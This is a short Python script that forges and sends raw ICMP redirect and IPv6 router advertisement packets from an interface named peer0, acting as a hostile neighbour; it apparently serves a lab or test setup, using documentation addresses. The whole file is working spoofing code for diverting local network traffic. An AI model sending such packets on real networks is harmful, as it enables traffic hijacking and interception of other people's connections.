"""Sends packets that nobody asked for from the interface peer0, as a neighbour of a host would who means it harm.

  forged-packets.py redirect HARDWARE_ADDRESS   an ICMP redirect: 198.51.100.9 is reached by 192.0.2.3
  forged-packets.py advertise HARDWARE_ADDRESS  a router advertisement: this is the router, and 2001:db8:bad::/64 is here

Addresses are those that documentation has. @see RFC 792, RFC 4861
"""
import socket
import struct
import sys

OWN = bytes.fromhex('02000000000b')
IPV4, IPV6 = 0x0800, 0x86DD
ICMP, ICMPV6 = 1, 58
ROUTER = socket.inet_pton(socket.AF_INET6, 'fe80::ff:fe00:b')
ALL_NODES = socket.inet_pton(socket.AF_INET6, 'ff02::1')


def checksum(data):
    words = struct.unpack(f'!{(len(data) + 1) // 2}H', data + b'\0' * (len(data) % 2))
    total = sum(words)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def with_checksum(message, pseudo_header=b''):
    return message[:2] + struct.pack('!H', checksum(pseudo_header + message)) + message[4:]


def ipv4(source, destination, payload):
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    start = struct.pack('!BBHHHBB', 0x45, 0, 20 + len(payload), 0, 0, 64, ICMP)
    return start + struct.pack('!H', checksum(start + b'\0\0' + addresses)) + addresses + payload


def redirect():
    echo = with_checksum(struct.pack('!BBHHH', 0, 0, 0, 1, 1))
    caused_by = ipv4('192.0.2.1', '198.51.100.9', echo)
    message = struct.pack('!BBH', 5, 1, 0) + socket.inet_aton('192.0.2.3') + caused_by
    return IPV4, ipv4('192.0.2.2', '192.0.2.1', with_checksum(message))


def advertise():
    prefix = struct.pack('!BBBBIII', 3, 4, 64, 0xC0, 86400, 14400, 0) + socket.inet_pton(socket.AF_INET6, '2001:db8:bad::')
    message = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0) + prefix
    pseudo_header = ROUTER + ALL_NODES + struct.pack('!II', len(message), ICMPV6)
    header = struct.pack('!IHBB', 6 << 28, len(message), ICMPV6, 255) + ROUTER + ALL_NODES
    return IPV6, header + with_checksum(message, pseudo_header)


kind, address = sys.argv[1:]
protocol, packet = {'redirect': redirect, 'advertise': advertise}[kind]()
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
    wire.bind(('peer0', 0))
    wire.send(bytes.fromhex(address.replace(':', '')) + OWN + struct.pack('!H', protocol) + packet)
